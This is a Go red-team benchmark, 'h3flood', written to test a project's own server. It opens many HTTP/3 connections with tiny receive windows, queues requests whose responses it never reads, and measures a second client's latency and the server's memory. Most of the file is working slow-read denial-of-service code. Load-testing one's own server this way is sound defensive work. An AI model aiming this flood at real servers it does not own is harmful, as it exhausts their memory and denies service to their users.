// Command h3flood opens HTTP/3 connections from one loopback address to a
// mirror's HTTPS port, each with a receive window of a few bytes and as
// many requests as the server allows, never read; meanwhile it fetches a
// page over HTTP/3 from another address every 100 ms and prints the
// latencies and the server's peak RSS. A red-team tool for issue 8, not
// part of samizdat.
//
//	go run ./bench/cmd/h3flood -addr 127.0.0.1:PORT -conns 256 -streams 100 -for 20s -pid PID
package main

import (
	"context"
	"crypto/tls"
	"flag"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"regexp"
	"sort"
	"strconv"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"
	"github.com/quic-go/quic-go/http3"
)

func main() {
	addr := flag.String("addr", "", "server address (UDP)")
	from := flag.String("from", "127.0.0.2", "attacker's source address")
	conns := flag.Int("conns", 256, "connections")
	streams := flag.Int("streams", 100, "requests per connection")
	path := flag.String("path", "/", "path to ask for")
	dur := flag.Duration("for", 20*time.Second, "length of the attack")
	pid := flag.Int("pid", 0, "server's pid, for its RSS")
	flag.Parse()
	ctx, cancel := context.WithTimeout(context.Background(), *dur)
	defer cancel()
	tc := &tls.Config{InsecureSkipVerify: true, NextProtos: []string{http3.NextProtoH3}}
	var opened, failed atomic.Int64
	var wg sync.WaitGroup
	for range *conns {
		wg.Go(func() {
			uc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP(*from)})
			if err != nil {
				failed.Add(1)
				return
			}
			defer uc.Close()
			ua, _ := net.ResolveUDPAddr("udp", *addr)
			tr := &quic.Transport{Conn: uc}
			defer tr.Close()
			qc, err := tr.Dial(ctx, ua, tc, &quic.Config{InitialStreamReceiveWindow: 16, MaxStreamReceiveWindow: 16,
				InitialConnectionReceiveWindow: 16 * 100, MaxConnectionReceiveWindow: 16 * 100, KeepAlivePeriod: 5 * time.Second})
			if err != nil {
				failed.Add(1)
				return
			}
			opened.Add(1)
			cc := (&http3.Transport{}).NewClientConn(qc)
			var sw sync.WaitGroup
			for range *streams {
				sw.Go(func() {
					req, _ := http.NewRequestWithContext(ctx, "GET", "https://"+*addr+*path, nil)
					if r, err := cc.RoundTrip(req); err == nil {
						<-ctx.Done()
						r.Body.Close()
					}
				})
			}
			sw.Wait()
		})
	}
	rt := &http3.Transport{TLSClientConfig: tc, Dial: func(ctx context.Context, a string, tlsCfg *tls.Config, cfg *quic.Config) (*quic.Conn, error) {
		uc, err := net.ListenUDP("udp", &net.UDPAddr{IP: net.ParseIP("127.0.0.3")})
		if err != nil {
			return nil, err
		}
		ua, _ := net.ResolveUDPAddr("udp", a)
		return quic.DialEarly(ctx, uc, ua, tlsCfg, cfg)
	}}
	var lat []time.Duration
	var errs int
	var peak int64
	t := time.NewTicker(100 * time.Millisecond)
	for ctx.Err() == nil {
		<-t.C
		cl := &http.Client{Timeout: 4 * time.Second, Transport: rt}
		start := time.Now()
		r, err := cl.Get("https://" + *addr + *path)
		if err == nil {
			io.Copy(io.Discard, r.Body)
			r.Body.Close()
			if r.StatusCode != 200 {
				err = fmt.Errorf("status %d", r.StatusCode)
			}
		}
		rt.CloseIdleConnections()
		if err != nil {
			errs++
		} else {
			lat = append(lat, time.Since(start))
		}
		if *pid > 0 {
			peak = max(peak, field(*pid, "VmRSS"))
		}
	}
	cancel()
	wg.Wait()
	sort.Slice(lat, func(i, j int) bool { return lat[i] < lat[j] })
	p := func(q float64) time.Duration {
		if len(lat) == 0 {
			return 0
		}
		return lat[int(q*float64(len(lat)-1))]
	}
	fmt.Printf("attacker conns %d (%d failed); reader: %d ok, %d failed, p50 %v p99 %v; server RSS peak %.1f MB (VmHWM %.1f MB)\n",
		opened.Load(), failed.Load(), len(lat), errs, p(0.5), p(0.99), float64(peak)/1e6, float64(field(*pid, "VmHWM"))/1e6)
}

func field(pid int, name string) int64 {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		return 0
	}
	m := regexp.MustCompile(`(?m)^` + name + `:\s+(\d+) kB`).FindSubmatch(b)
	if m == nil {
		return 0
	}
	v, _ := strconv.ParseInt(string(m[1]), 10, 64)
	return v << 10
}
